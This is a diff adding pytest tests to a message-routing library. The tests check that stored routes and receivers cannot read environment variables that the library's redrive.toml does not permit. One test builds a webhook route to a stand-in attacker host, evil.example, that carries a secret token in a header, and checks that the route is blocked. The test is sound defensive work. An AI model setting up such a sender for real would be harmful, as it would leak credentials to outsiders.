@@ -9,7 +9,7 @@ import pytest
 
 from redrive.broker import Message, Send
 from redrive.errors import Unavailable
-from redrive.parts import only_folders
+from redrive.parts import only_folders, only_variables
 from redrive.routes import (
     Delivered,
     DestinationChanged,
@@ -17,12 +17,14 @@ from redrive.routes import (
     EventTaken,
     LegDelivered,
     LegFailed,
+    ReceiverBroken,
     Rejected,
     RouteBroken,
     RouteChanged,
     RouteRunner,
     TryLater,
     from_queue,
+    from_redis,
     from_topic,
     kinds,
     match,
@@ -31,7 +33,9 @@ from redrive.routes import (
     to_debug,
     to_file,
     to_queue,
+    webhook,
 )
+from redrive.routes.receivers.source_events import SourceLost
 from redrive.routes.senders.debug import DebugSender
 from tests.routes.route_bench import GateReceiver, PickySender, RouteBench, gate, got, line
 
@@ -376,6 +380,40 @@ async def test_a_stored_route_to_a_file_that_this_process_may_not_write_does_not
         await bench.put("orders", "1")
         await bench.delivered("b", ["1"])
     assert not (tmp_path / "other.jsonl").exists()
+
+
+async def test_a_stored_route_reads_no_variable_that_this_process_may_not_read_except_as_its_file_says(
+    bench, monkeypatch
+):
+    monkeypatch.setenv("TOKEN", "geheim")
+    own = line("own", sender=webhook("https://partner.example/hook", headers={"x": "env:TOKEN"}))
+    other = line("other", sender=webhook("https://evil.example/hook", headers={"x": "env:TOKEN"}))
+    with only_variables([]):
+        bench.start(own=[own])
+        await bench.apply(own, other, line("b"))
+        assert [(each.route, "variables in redrive.toml" in each.problem) for each in bench.reported(RouteBroken)] == [
+            ("other", True)
+        ]
+        changed = line("own", sender=webhook("https://evil.example/hook", headers={"x": "env:TOKEN"}))
+        await bench.apply(changed)
+        assert bench.reported(RouteBroken)[-1].route == "own"
+        await bench.put("orders", "1")
+        await bench.delivered("b", ["1"])
+    with only_variables(["TOK*"]):
+        await bench.follow()
+        assert bench.runner._broken == {}
+
+
+@pytest.mark.parametrize("is_own", [True, False])
+async def test_a_stored_receiver_reads_no_variable_that_this_process_may_not_read(bench, monkeypatch, is_own):
+    monkeypatch.setenv("STREAMS", "redis://127.0.0.1:1/0")
+    own = line("own", from_redis(url="env:STREAMS", stream="orders"))
+    with only_variables([]):
+        bench.start(own=[own] if is_own else [])
+        await bench.apply(own)
+        await bench.until(lambda: bench.reported(ReceiverBroken) or bench.reported(SourceLost))
+    problem = bench.reported(SourceLost if is_own else ReceiverBroken)[0].problem
+    assert ("variables in redrive.toml" in problem) is not is_own
 
 
 async def test_a_route_that_cannot_begin_is_no_trouble_for_others_and_can_be_removed(bench):
